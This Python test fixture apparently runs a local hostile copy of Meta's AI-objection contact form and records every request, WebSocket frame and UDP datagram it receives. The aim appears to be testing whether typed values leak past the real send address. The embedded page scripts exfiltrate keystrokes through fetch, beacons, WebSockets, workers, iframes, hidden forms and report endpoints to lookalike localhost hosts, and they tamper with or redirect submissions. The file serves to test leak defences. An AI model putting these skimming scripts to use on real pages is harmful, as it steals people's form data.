# Scripts of pages stand in one line where that reads better than pieces.
# ruff: noqa: E501

"""A hostile copy of the form on this machine, and a count of everything that arrives from it.

The server answers for every `*.localhost` host on one port and records each arrival whole: request
line, headers, body, and the frames of sockets. Wordings and markup are its own, not the flows'.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import re
import socket
import socketserver
import struct
import threading
import time
from dataclasses import dataclass
from types import TracebackType
from typing import ClassVar, Self

MARK = b"kwikstaart"
"""The word that e-mail address and reason of a test share: whoever carries it carries a value."""

FORM = "/help/contact/712876720715583"
SEND = "/ajax/help/contact/submit/"


@dataclass(frozen=True)
class Arrival:
    """One thing that reached the server: *head* is all before the body, as it came."""

    method: str
    path: str
    head: bytes
    body: bytes
    at: float

    @property
    def marked(self) -> bool:
        """Whether it carries a typed value."""
        return MARK in (self.head + self.body).lower()

    @property
    def is_send(self) -> bool:
        """Whether it came to the send address with something to say."""
        return self.path.startswith(SEND) and self.method not in {"GET", "HEAD"}


@dataclass(frozen=True)
class Behaviour:
    """What the site does: *script* is hostile, *transport* is how its form sends.

    *tamper* is an expression over `v` (`v.email`, `v.reason`) that gives what is sent instead.
    *answer* is how the server answers the send: `page`, `307`, `308`, `307 elsewhere`, `reset`,
    `303`. *late* is how long, in milliseconds, the page waits between the press and its send.
    """

    script: str = ""
    transport: str = "native"
    tamper: str = "v"
    answer: str = "page"
    late: int = 0


# Each expression gives a promise of [body, content type, more headers]; `v` are the values.
TRANSPORTS = {
    "urlencoded": "[new URLSearchParams(v), 'application/x-www-form-urlencoded']",
    "multipart": "[formData(v), null]",
    "json": "[JSON.stringify({input: {data: v}}), 'application/json']",
    "json in a field": (
        "[new URLSearchParams({variables: JSON.stringify({input: v}), doc_id: '1'}), "
        "'application/x-www-form-urlencoded']"
    ),
    "json in json": "[JSON.stringify({q: JSON.stringify(v)}), 'text/plain']",
    "base64": "[b64(JSON.stringify(v)), 'text/plain']",
    "base64 in a field": (
        "[new URLSearchParams({p: b64(new URLSearchParams(v).toString())}), "
        "'application/x-www-form-urlencoded']"
    ),
    "gzip": "[await squeeze(JSON.stringify(v), 'gzip'), 'application/json', 'gzip']",
    "deflate": "[await squeeze(JSON.stringify(v), 'deflate'), 'application/json', 'deflate']",
    "lines": "[Object.values(v).map((x) => JSON.stringify({x})).join('\\n'), 'application/x-ndjson']",
    "text/plain": "[Object.entries(v).map(([n, x]) => n + '=' + x + '\\r\\n').join(''), 'text/plain']",
    "utf-16": "[utf16(JSON.stringify(v)), 'application/octet-stream']",
    "percent twice": (
        "['p=' + encodeURIComponent(new URLSearchParams(v).toString()), "
        "'application/x-www-form-urlencoded']"
    ),
    "guarded": "['for(;;);' + JSON.stringify(v), 'text/javascript']",
}

_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Object to your information being used for AI at Meta</title>%(head)s</head>
<body><h1>Practice: object to AI at Meta</h1>
<form id="f" method="post" action="%(send)s">
<p><label for="e">Email address</label><br><input id="e" name="email"></p>
<p><label for="r">Explanation</label><br><textarea id="r" name="reason" rows="4"></textarea></p>
<p><button type="submit">Submit</button></p>
</form><div id="z"></div>
<script>
const PORT = %(port)s, UDP = %(udp)s, OWN = location.origin;
const BASES = [OWN, 'http://www.instagram.com.localhost:' + PORT,
  'http://elsewhere.example.localhost:' + PORT, 'http://127.0.0.1:' + PORT];
const e = document.getElementById('e'), r = document.getElementById('r');
const f = document.getElementById('f'), z = document.getElementById('z');
const loaded = (text) => text.toLowerCase().includes('kwikstaart');
const enc = encodeURIComponent;
const quietly = (act) => { try { const p = act(); if (p && p.catch) p.catch(() => 0); } catch (x) {} };
const add = (name, attributes) => {
  const el = document.createElement(name);
  for (const [k, v] of Object.entries(attributes)) el.setAttribute(k, v);
  z.appendChild(el); return el;
};
const formData = (v) => { const d = new FormData(); for (const k in v) d.append(k, v[k]); return d; };
const b64 = (t) => btoa(String.fromCharCode(...new TextEncoder().encode(t)));
const utf16 = (t) => new Uint8Array(new Uint16Array([0xfeff, ...[...t].map((c) => c.charCodeAt(0))]).buffer);
const squeeze = (t, how) => new Response(
  new Blob([t]).stream().pipeThrough(new CompressionStream(how))).arrayBuffer();
const hidden = (path, v, target) => {
  const g = add('form', {method: 'post', action: path, target: target || '_self'});
  for (const k in v) { const i = document.createElement('input'); i.type = 'hidden'; i.name = k; i.value = v[k]; g.appendChild(i); }
  return g;
};
const leaks = [];
const every = (leak) => leaks.push(leak);
let rounds = 0;
const fire = (when, bases) => {
  const t = e.value + ' ' + r.value;
  if (!loaded(t)) return;
  for (const base of bases) for (const leak of leaks)
    quietly(() => leak(enc(t), base, {email: e.value, reason: r.value}, when));
};
// One host a tick, in turn, and not for ever: a page that floods would only measure the machine.
const tick = (when) => { if (rounds < 28) { fire(when, [BASES[rounds & 3]]); rounds += 1; } };
%(script)s
document.addEventListener('input', () => tick('input'));
setInterval(() => tick('timer'), 250);
for (const name of ['pagehide', 'visibilitychange', 'beforeunload', 'unload', 'freeze'])
  addEventListener(name, () => fire(name, BASES));
const values = () => ({email: e.value, reason: r.value});
const change = (v) => (%(tamper)s);
const body = async (v) => (%(transport)s);
const show = (ok) => {
  document.body.innerHTML = '<h1>Practice</h1><p data-practice-outcome="'
    + (ok ? 'confirmed">It was received here.' : 'refused">It did not leave.') + '</p>';
};
const post = async (path) => {
  const [b, type, coding] = await body(change(values()));
  const headers = {}; if (type) headers['Content-Type'] = type;
  if (coding) headers['Content-Encoding'] = coding;
  return fetch(path || '%(send)s', {method: 'POST', headers, body: b});
};
f.addEventListener('formdata', (event) => {
  const v = change(values());
  for (const k of ['email', 'reason']) if (k in v) event.formData.set(k, v[k]); else event.formData.delete(k);
  for (const k in v) event.formData.set(k, v[k]);
});
const native = %(native)s, late = %(late)s;
f.addEventListener('submit', (event) => {
  if (native && !late) return;
  event.preventDefault();
  setTimeout(() => native ? f.submit() : post().then(() => show(true), () => 0), late);
});
</script></body></html>"""

_THANKS = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Practice</title></head>
<body><h1>Practice</h1><p data-practice-outcome="confirmed">It was received here.</p></body></html>"""

_WORKER = """const post = (url, t) => { try { fetch(url + '?v=' + t).catch(() => 0);
  fetch(url, {method: 'POST', mode: 'no-cors', body: t}).catch(() => 0); } catch (x) {} };
const sock = (url, t) => { try { const w = new WebSocket(url.replace('http', 'ws') + '?v=' + t);
  w.onopen = () => w.send(t); } catch (x) {} };
const said = (m) => { post(m.base + '/leak/worker', m.t); sock(m.base + '/leak/worker-ws', m.t); };
onmessage = (event) => said(event.data);
onconnect = (event) => { event.ports[0].onmessage = (m) => said(m.data); };
"""

_NESTED = (
    """const w = new Worker('/worker.js'); onmessage = (event) => w.postMessage(event.data);"""
)

_SERVICE = """addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('message', (event) => { const m = event.data;
  fetch(m.base + '/leak/service?v=' + m.t, {mode: 'no-cors'}).catch(() => 0); });
"""

_FRAME = """<!doctype html><script>
let early = null;
try { early = new WebSocket(location.origin.replace('http', 'ws') + '/leak/frame-early'); } catch (x) {}
if (name.includes('kwikstaart')) fetch('/leak/name', {method: 'POST', body: name}).catch(() => 0);
onmessage = (event) => { const m = event.data;
  fetch(m.base + '/leak/frame?v=' + m.t, {mode: 'no-cors'}).catch(() => 0);
  fetch(m.base + '/leak/frame', {method: 'POST', mode: 'no-cors', body: m.t}).catch(() => 0);
  navigator.sendBeacon(m.base + '/leak/frame-beacon', m.t);
  if (early && early.readyState === 1) early.send(m.t);
  const g = document.createElement('form'); g.method = 'post'; g.action = m.base + '/leak/frame-form';
  const i = document.createElement('input'); i.name = 'v'; i.value = m.t; g.appendChild(i);
  document.body.appendChild(g); g.submit(); };
</script><body></body>"""

_MODULE = "export const here = 1;"


class HostileSite:
    """The server. `url` is its address, `arrivals` what came, `datagrams` what came over UDP."""

    def __init__(self, behaviour: Behaviour) -> None:
        self.behaviour = behaviour
        self.arrivals: list[Arrival] = []
        self.datagrams: list[bytes] = []
        self._lock = threading.Lock()
        self._server = _Server(("127.0.0.1", 0), _Handler)
        self._server.site = self
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._udp.settimeout(0.2)
        self._over = threading.Event()

    @property
    def port(self) -> int:
        """The port on 127.0.0.1."""
        return int(self._server.server_address[1])

    @property
    def url(self) -> str:
        """What `--site` takes."""
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> Self:
        self._threads = [
            threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True),
            threading.Thread(target=self._listen, daemon=True),
        ]
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self._over.set()
        self._server.shutdown()
        self._server.server_close()
        for thread in self._threads:
            thread.join(2)
        self._udp.close()

    def _listen(self) -> None:
        while not self._over.is_set():
            with contextlib.suppress(OSError):
                self.datagrams.append(self._udp.recvfrom(65536)[0])

    # ------------------------------------------------------------------ what came

    def note(self, arrival: Arrival) -> None:
        """Record *arrival*."""
        with self._lock:
            self.arrivals.append(arrival)

    def sends(self) -> list[Arrival]:
        """What came to the send address with something to say."""
        return [a for a in self.arrivals if a.is_send]

    def leaks(self) -> list[str]:
        """Where a typed value arrived beside the send address; a UDP datagram counts as well."""
        found = [f"{a.method} {a.path.partition('?')[0]}" for a in self.arrivals if a.marked]
        found = [name for name in found if not (name.startswith("POST") and SEND in name)]
        return found + ["UDP" for _datagram in self.datagrams]

    # ------------------------------------------------------------------ what it serves

    def page(self) -> bytes:
        """The form, with the hostile script in it."""
        does = self.behaviour
        native = does.transport == "native"
        return (
            _PAGE
            % {
                "head": "",
                "send": SEND,
                "port": self.port,
                "udp": self._udp.getsockname()[1],
                "script": does.script,
                "tamper": does.tamper,
                "transport": TRANSPORTS[does.transport] if not native else "[null, null]",
                "native": json.dumps(native),
                "late": does.late,
            }
        ).encode()


class _Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    block_on_close = False
    request_queue_size = 64
    site: HostileSite

    def handle_error(self, request: object, client_address: object) -> None:
        """A browser that hangs up is no matter of the test's."""


class _Handler(socketserver.StreamRequestHandler):
    server: _Server
    timeout = 20

    PAGES: ClassVar[dict[str, tuple[str, str]]] = {
        "/worker.js": ("text/javascript", _WORKER),
        "/nested.js": ("text/javascript", _NESTED),
        "/service.js": ("text/javascript", _SERVICE),
        "/module.js": ("text/javascript", _MODULE),
        "/frame": ("text/html", _FRAME),
        "/thanks": ("text/html", _THANKS),
    }

    def handle(self) -> None:
        """Take requests until the other side hangs up."""
        while self._one():
            pass

    def _one(self) -> bool:
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            piece = self.rfile.readline(65536)
            if not piece:
                if head:
                    self.server.site.note(Arrival("?", "raw", head, b"", time.monotonic()))
                return False
            head += piece
        line = head.partition(b"\r\n")[0].decode("latin-1").split(" ")
        method, path = (line[0], line[1]) if len(line) == 3 else ("?", "raw")
        length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
        body = self.rfile.read(int(length[1])) if length else b""
        self.server.site.note(Arrival(method, path, head, body, time.monotonic()))
        if b"sec-websocket-key" in head.lower():
            self._socket(head, path)
            return False
        return self._answer(method, path.partition("?")[0])

    def _answer(self, method: str, path: str) -> bool:
        site = self.server.site
        if path.startswith(SEND) and method == "POST":
            return self._answer_send()
        if path == FORM and method == "GET":
            more = "".join(
                f"{line}\r\n"
                for line in (
                    f'Reporting-Endpoints: here="http://www.facebook.com.localhost:{site.port}/leak/report"',
                    "Content-Security-Policy-Report-Only: img-src 'none'; report-uri /leak/report-uri",
                    "Content-Security-Policy-Report-Only: font-src 'none'; report-to here",
                    "Document-Policy: include-js-call-stacks-in-crash-reports",
                )
            )
            return self._say(200, "text/html; charset=utf-8", site.page(), more)
        if path in self.PAGES:
            kind, text = self.PAGES[path]
            return self._say(200, f"{kind}; charset=utf-8", text.encode())
        if path.startswith("/leak/"):
            return self._say(200, "text/plain", b"thanks", "Access-Control-Allow-Origin: *\r\n")
        return self._say(404, "text/plain", b"")

    def _answer_send(self) -> bool:
        site = self.server.site
        own = f"http://www.facebook.com.localhost:{site.port}"
        match site.behaviour.answer:
            case "307" | "308" as status:
                return self._say(int(status), "text/plain", b"", f"Location: {own}{SEND}again\r\n")
            case "307 elsewhere":
                other = f"http://www.instagram.com.localhost:{site.port}{SEND}again"
                return self._say(307, "text/plain", b"", f"Location: {other}\r\n")
            case "303":
                return self._say(303, "text/plain", b"", f"Location: {own}/thanks\r\n")
            case "reset":
                self.connection.setsockopt(
                    socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)
                )
                self.connection.close()
                return False
            case _:
                return self._say(200, "text/html; charset=utf-8", _THANKS.encode())

    def _say(self, status: int, kind: str, content: bytes, more: str = "") -> bool:
        head = (
            f"HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: {len(content)}\r\n"
            f"Cache-Control: no-store\r\n{more}\r\n"
        )
        self.wfile.write(head.encode() + content)
        return True

    def _socket(self, head: bytes, path: str) -> None:
        """Take a WebSocket and record each frame (RFC 6455 §5.2)."""
        key = re.search(rb"(?i)sec-websocket-key: *(\S+)", head)
        assert key is not None
        magic = key[1] + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        accept = base64.b64encode(hashlib.sha1(magic, usedforsecurity=False).digest()).decode()
        self.wfile.write(
            "HTTP/1.1 101 X\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
        )
        while len(start := self.rfile.read(2)) == 2:
            size = start[1] & 127
            if size > 125:
                size = int.from_bytes(self.rfile.read(2 if size == 126 else 8), "big")
            mask = self.rfile.read(4)
            data = bytes(b ^ mask[n % 4] for n, b in enumerate(self.rfile.read(size)))
            self.server.site.note(Arrival("FRAME", path, b"", data, time.monotonic()))
